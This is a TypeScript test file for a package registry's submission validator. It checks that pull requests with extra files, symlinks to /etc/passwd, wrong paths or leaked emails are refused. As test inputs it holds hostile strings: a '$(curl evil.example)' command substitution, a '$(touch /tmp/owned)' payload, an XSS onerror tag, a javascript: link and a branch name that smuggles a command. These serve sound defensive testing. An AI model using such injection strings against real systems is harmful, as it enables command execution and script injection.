import { type PublishSubmission, serializeSubmission, type Submission } from '@orchestra/core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Author, type Spoiled, startWorld, type World } from '../test/start-world.ts';

let world: World;
let author: Author;
let submission: PublishSubmission;
const path = 'registry-index/submissions/tide-table/1.0.0.json';

beforeAll(async () => {
  world = await startWorld();
  author = await world.addAuthor('tidewater');
  submission = await world.release(author);
});
afterAll(() => world[Symbol.asyncDispose]());

const text = () => serializeSubmission(submission);

test.each<[string, () => Spoiled, string]>([
  [
    'two files',
    () => ({ files: { [path]: text(), 'registry-index/submissions/tides/1.0.0.json': text() } }),
    'submission-not-alone',
  ],
  [
    'a changed workflow beside it',
    () => ({ files: { [path]: text(), '.github/CODEOWNERS': '* @tidewater\n' } }),
    'submission-not-alone',
  ],
  [
    'a changed entry beside it',
    () => ({ files: { [path]: text(), 'registry-index/verified.json': '{}\n' } }),
    'submission-not-alone',
  ],
  [
    'a symbolic link',
    () => ({ files: { [path]: '/etc/passwd' }, mode: '120000' }),
    'submission-mode',
  ],
  ['an executable', () => ({ files: { [path]: text() }, mode: '100755' }), 'submission-mode'],
  [
    'a path that differs from its content',
    () => ({ files: { 'registry-index/submissions/git-lens/1.0.0.json': text() } }),
    'submission-path',
  ],
  [
    'a path deeper than it should be',
    () => ({ files: { 'registry-index/submissions/a/b/1.0.0.json': text() } }),
    'submission-path',
  ],
  ['no JSON', () => ({ files: { [path]: '$(curl evil.example)' } }), 'submission-invalid-json'],
  ['an email of the author', () => ({ email: 'tidewater@mail.dev' }), 'commit-email'],
  [
    'an email in the message',
    () => ({ message: 'Submit\n\nCo-authored-by: T <t@mail.dev>' }),
    'commit-email',
  ],
])('a pull request with %s is refused and never merged', async (_case, spoiled, code) => {
  const pull = await world.submit(author, submission, spoiled());
  await world.approve(pull);
  const validation = await world.validate(pull);
  expect(validation.decision).toBe('refuse');
  expect(validation.problems.map((found) => found.code)).toContain(code);
  expect(await world.report(validation)).toMatchObject({ outcome: 'refused' });
  expect(await world.labels(pull)).toEqual(['refused']);
  expect(await world.pending()).toEqual([]);
  const [comment] = await world.comments(pull);
  expect(comment).toContain(`\`${code}\``);
  expect(`${comment}${JSON.stringify(validation)}`).not.toContain('@mail.dev');
});

test('a pull request that touches no submission is left alone', async () => {
  const files = { 'registry-index/featured.json': '{}\n' };
  const pull = await world.submit(author, submission, { files });
  const validation = await world.validate(pull);
  expect(validation.decision).toBe('ignore');
  expect(await world.report(validation)).toMatchObject({ outcome: 'ignored' });
  expect(await world.comments(pull)).toEqual([]);
  expect(await world.labels(pull)).toEqual([]);
});

test('title, branch, name and message with shell and Markdown in them reach nobody', async () => {
  const evil = '`$(touch /tmp/owned)` <img src=x onerror=alert(1)> [a](javascript:1) @everyone';
  const named: Submission = { format: 1, action: 'yank', name: 'tide-table', version: '1.0.0' };
  const pull = await world.submit(author, named, {
    title: evil,
    branch: 'a`touch$IFS-owned`;&|',
    message: evil,
    files: {
      [path]: JSON.stringify({ ...named, name: evil, version: evil, reason: `${evil}\n\n# x` }),
    },
  });
  const reported = await world.report(await world.validate(pull));
  expect(reported.outcome).toBe('refused');
  const [comment = ''] = await world.comments(pull);
  const outside = comment.replaceAll(/(`+)[\s\S]*?[^`]\1(?!`)/g, '');
  expect(outside).not.toMatch(/onerror|@everyone|javascript|touch/);
});
